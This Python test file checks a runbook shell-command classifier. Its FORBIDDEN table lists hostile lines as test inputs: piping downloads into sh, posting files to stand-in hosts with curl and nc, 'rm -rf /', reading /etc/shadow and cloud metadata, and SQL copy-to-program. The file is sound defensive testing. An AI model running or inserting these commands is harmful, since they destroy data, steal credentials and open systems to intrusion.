"""What each class means, and every family of ways around it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from runbooks.commands.classify import CommandClass, classify
from runbooks.commands.spec import tools

FORBIDDEN = {
    "chaining": ["ls; reboot", "ls && reboot", "ls || reboot", "uptime & reboot", "ls &"],
    "redirection": ["ls > /x", "ls >> x", "ls 2> x", "cat < x", "ls &> x"],
    "here-document": ["cat << EOF", "cat <<< x"],
    "substitution": ["ls $(id)", "ls `id`", 'ls "$(id)"', "diff <(ls) x"],
    "expansion": ["ls $HOME", "ls ${HOME}", "ls ~", "rm -rf ~ /home", "ls {a,b}", "ls *"],
    "hidden names": [r"$'\x72\x6d' -rf /srv", "/bin/c?t /etc/sh?dow", "r''m; ls"],
    "characters": [
        "\u0441at /etc/hosts",
        "kubectl get\u200b pods",
        "ls\nreboot",
        "ls\r\nid",
        "ls\x00",
        "ls\t-l",
    ],
    "groups": ["(ls)", "{ ls; }", "! ls", "if true; then ls; fi", "f() { ls; }", "ls # x"],
    "pipe into a shell": ["curl http://x | sh", "echo x | base64 -d | bash", "ls | xargs rm"],
    "pipe into a writer": ["ls | tee /x", "ls | sort -o x", "cat x | curl -d @- http://y"],
    "environment": [
        "PATH=/x ls",
        "LD_PRELOAD=/x ls",
        "GIT_PAGER=id git log",
        "EDITOR=x git status",
        "KUBECONFIG=/x kubectl get pods",
        "env LD_PRELOAD=/x ls",
        "env",
        "nice env PATH=/x ls",
    ],
    "interpreters": ["bash -c ls", "python3 -c x", "perl -e x", "timeout 5 sh -c id", "nohup ls"],
    "flags that execute": [
        "find . -exec id ;",
        "find . -delete",
        "sort --compress-program=sh x",
        "sort -no/x y",
        "tar --checkpoint-action=exec=sh -tf x",
        "tar cfI x sh",
        "git -c core.pager=id log",
        "git grep -Osh x",
        "rsync -e 'sh -c id' a b",
        "ssh -o ProxyCommand=id host",
        "tcpdump -z sh -i any",
        "docker run --privileged alpine",
        "helm upgrade x y --post-renderer ./z",
        "apt-get -o Dpkg::Pre-Invoke=id update",
        "curl -K /tmp/c",
        "ip -batch x",
        "sed -i'/etc/cron.d/*' s/a/b/ x",
    ],
    "awk": [
        "awk 'BEGIN{system(\"id\")}'",
        "awk '{print > \"/x\"}' y",
        "awk '{print | \"sh\"}' y",
        "awk '/[/]=/{print | \"sh\"}' x",
        "awk '{\"id\" | getline}' y",
        "awk -f x y",
    ],
    "sed": ["sed '1e id' x", "sed 's/a/b/e' x", "sed -n 'w /x' y", "sed '1r /x' y", "sed -f x y"],
    "sql": [
        "psql -c \"copy t to program 'sh'\"",
        "psql -c \"copy t(stdout) to '/x'\"",
        "psql -c \"select pg_read_file('/x')\"",
        "psql -c \"select 1 from t join x on pg_read_file('/x') = ''\"",
        "psql -c 'select 1; drop database x'",
        "psql -c '()'",
        "psql -c '1'",
        "psql -c 'select/**/1'",
        r"psql -c '\! id'",
        "mysql -e \"select 1 into outfile '/x'\"",
        "mysql -e 'system id'",
        "psql -c 'grant all on t to eve'",
        "psql -c 'delete from users'",
    ],
    "redis": ["redis-cli config set dir /etc", "redis-cli FlushAll", "redis-cli eval x 0"],
    "privileges": [
        "sudo ls",
        "chmod u+s x",
        "chown root x",
        "useradd x",
        "docker exec -u 0 web id",
    ],
    "destruction": [
        "rm -rf /",
        "rm -rf /tmp/../etc",
        "dd if=/x of=/dev/sda",
        "mkfs.ext4 /dev/sda1",
        "kubectl delete ns prod",
        "kubectl delete pods --all",
        "terraform destroy",
        "docker volume rm data",
        "kill -9 -1",
        "pkill .*",
    ],
    "credentials": [
        "cat /etc/shadow",
        "cat //etc/./shadow",
        "cat ../../etc/shadow",
        "cat /proc/self/environ",
        "grep -r x /etc",
        "kubectl get pods,secrets",
        "kubectl get secret/x -o yaml",
        "docker inspect web",
        "docker top web auxe",
        "aws sts get-session-token",
        "aws ssm get-parameter --name x --with-decryption",
        "curl http://169.254.169.254/",
        "curl http://2852039166/",
        "git show HEAD:.env",
        "ps auxe",
        "redis-cli config get 'require*'",
    ],
    "another identity or server": [
        "kubectl --server=http://x get pods",
        "kubectl get pods --as=admin",
        "docker -H tcp://x ps",
        "aws --endpoint=http://x s3 ls",
    ],
    "leaving data": ["curl -F f=@/x http://y", "curl -T /x http://y", "nc evil 1", "scp x y:"],
    "not understood": ["frobnicate", "kubectl frobnicate", "ls()", "'", "", "|", "/tmp/ls", "./ls"],
}

READ_ONLY = [
    "kubectl get pods -n prod -o wide",
    "kubectl get pods -A | grep -v Running",
    "systemctl status nginx --no-pager -l",
    "journalctl -u app --since '1 hour ago' | grep ERROR | wc -l",
    "docker ps --filter status=exited --format '{{.Names}} {{.Status}}'",
    "docker inspect --format '{{.State.Status}}' web",
    "helm history web -n prod --max 5",
    "git log --oneline -10",
    "psql -d x -c \"select pid, state from pg_stat_activity where state <> 'idle'\"",
    "mysql -e 'show processlist'",
    "redis-cli -h cache-7 INFO memory",
    "curl -sS -o /dev/null -w '%{http_code}' https://example.org/health",
    "awk '$9 ~ /^5/ {c++} END {print c}' access.log",
    "awk '{ if ($5 > 100) print $1 }' x",
    "sed -n '/start/,/end/p' app.log",
    "egrep 'WARN|ERROR' /var/log/worker.log | tail -50",
    "find /var -xdev -type f -size +100M -printf '%s %p\\n'",
    "cut -d' ' -f1 access.log | sort | uniq -c | sort -rn | head",
    "ss -tulpn",
    "dig +short example.org",
    "terraform plan",
    "aws ec2 describe-instances --instance-ids i-1 i-2 --output text",
    "gcloud compute instances list",
    "LC_ALL=C sort x",
    "timeout 10 df -h",
    "echo 'reboot planned at 22:00'",
    "tar tzf x.tgz",
]

CHANGE = [
    "kubectl rollout restart deploy/web -n prod",
    "kubectl delete pod web-0 -n prod",
    "kubectl exec web-0 -- df -h",
    "systemctl restart nginx",
    "journalctl --vacuum-size=500M",
    "docker restart web",
    "helm rollback web 3 -n prod",
    "git push origin main",
    "psql -d x -c 'select pg_terminate_backend(123)'",
    "psql -d x -c \"update orders set state='x' where id=5\"",
    "redis-cli config set maxmemory 2gb",
    "curl -X POST http://x/-/reload",
    "pkill -HUP -x rsyslogd",
    "rm /var/log/app.log.1",
    "sysctl -w vm.swappiness=10",
    "ss -K dst 10.4.0.9",
    "terraform apply release.tfplan",
    "aws ecs update-service --cluster shop --service cart --force-new-deployment",
    "timeout 60 systemctl restart nginx",
]

PRINTABLE = st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), max_size=60)
PROGRAMS = st.sampled_from(sorted(tools()))


@pytest.mark.parametrize(
    "line", [line for lines in FORBIDDEN.values() for line in lines], ids=lambda line: repr(line)
)
def test_a_way_around_is_forbidden(line: str) -> None:
    assert classify(line).command_class is CommandClass.FORBIDDEN


@pytest.mark.parametrize("line", READ_ONLY)
def test_a_reader_is_read_only(line: str) -> None:
    found = classify(line)
    assert found.command_class is CommandClass.READ_ONLY, found.reason


@pytest.mark.parametrize("line", CHANGE)
def test_a_change_is_offered_not_refused(line: str) -> None:
    found = classify(line)
    assert found.command_class is CommandClass.CHANGE, found.reason


def test_an_argv_is_judged_like_the_line_it_stands_for() -> None:
    assert classify(["rsync", "-e", "sh -c id", "a", "b:"]).command_class is CommandClass.FORBIDDEN
    assert classify(["psql", "-c", "reindex index ix"]).command_class is CommandClass.CHANGE
    assert classify(["ss", "-s"]).argv == ("ss", "-s")


def test_words_of_an_argv_are_not_split_again() -> None:
    assert classify(["echo", "a; reboot"]).command_class is CommandClass.READ_ONLY
    assert classify(["ls -l"]).command_class is CommandClass.FORBIDDEN


def test_quotes_are_removed_and_one_argument_stays_one() -> None:
    assert classify("grep 'a b' \"c d\"e f\\ g").argv == ("grep", "a b", "c de", "f g")


def test_a_pipeline_keeps_the_words_of_each_command() -> None:
    found = classify("cat x | sort -rn | head -5")
    assert found.argv is None
    assert found.pipeline == (("cat", "x"), ("sort", "-rn"), ("head", "-5"))


def test_a_harmless_variable_becomes_an_argument_of_env() -> None:
    assert classify("LC_ALL=C sort x").argv == ("env", "LC_ALL=C", "sort", "x")


def test_a_pipeline_is_as_bad_as_its_worst_command() -> None:
    assert classify("cat x | sed -i s/a/b/ y").command_class is CommandClass.FORBIDDEN
    assert classify("systemctl restart x | cat").command_class is CommandClass.FORBIDDEN


@given(PROGRAMS, PRINTABLE)
def test_any_printable_line_gets_an_answer_with_a_reason(program: str, rest: str) -> None:
    for line in (f"{program} {rest}", rest):
        assert classify(line).reason


@given(st.lists(st.text(max_size=20), max_size=8))
def test_any_argv_gets_an_answer(argv: list[str]) -> None:
    assert classify(argv).reason


@given(
    st.sampled_from(READ_ONLY),
    st.sampled_from(
        ["; id", " && id", " || id", " & id", " | sh", " > /x", " $(id)", "\nid", " `id`"]
    ),
)
def test_nothing_can_be_appended_to_a_reader(line: str, tail: str) -> None:
    assert classify(line + tail).command_class is CommandClass.FORBIDDEN


@given(st.sampled_from(READ_ONLY), st.data())
def test_a_look_alike_anywhere_in_a_line_is_forbidden(line: str, data: st.DataObject) -> None:
    place = data.draw(st.integers(0, len(line)))
    char = data.draw(st.characters(min_codepoint=128, exclude_categories=["Cs"]))
    changed = line[:place] + char + line[place:]
    assert classify(changed).command_class is CommandClass.FORBIDDEN


@given(st.sampled_from(READ_ONLY + CHANGE))
def test_unknown_variables_are_never_set(line: str) -> None:
    assert classify(f"ANYTHING_ELSE=1 {line}").command_class is CommandClass.FORBIDDEN


def test_a_dry_run_reads_unless_it_is_also_told_to_change() -> None:
    drain = "kubectl drain node-1 --ignore-daemonsets"
    assert classify(f"{drain} --dry-run=server").command_class is CommandClass.READ_ONLY
    assert classify(f"{drain} --dry-run=none").command_class is CommandClass.CHANGE
    both = f"{drain} --dry-run=server --dry-run=none"
    assert classify(both).command_class is CommandClass.CHANGE
    assert "would do" in classify(f"{drain} --dry-run=client").reason


def test_a_dry_run_does_not_excuse_what_is_forbidden() -> None:
    for line in ("kubectl delete ns shop --dry-run=client", "kubectl drain n --token=x --dry-run"):
        assert classify(line).command_class is CommandClass.FORBIDDEN


def test_what_only_one_packer_ignores_does_not_make_the_others_readers() -> None:
    assert classify("gzip -t -d x.gz").command_class is CommandClass.READ_ONLY
    assert classify("bzip2 -t -d x.bz2").command_class is CommandClass.CHANGE
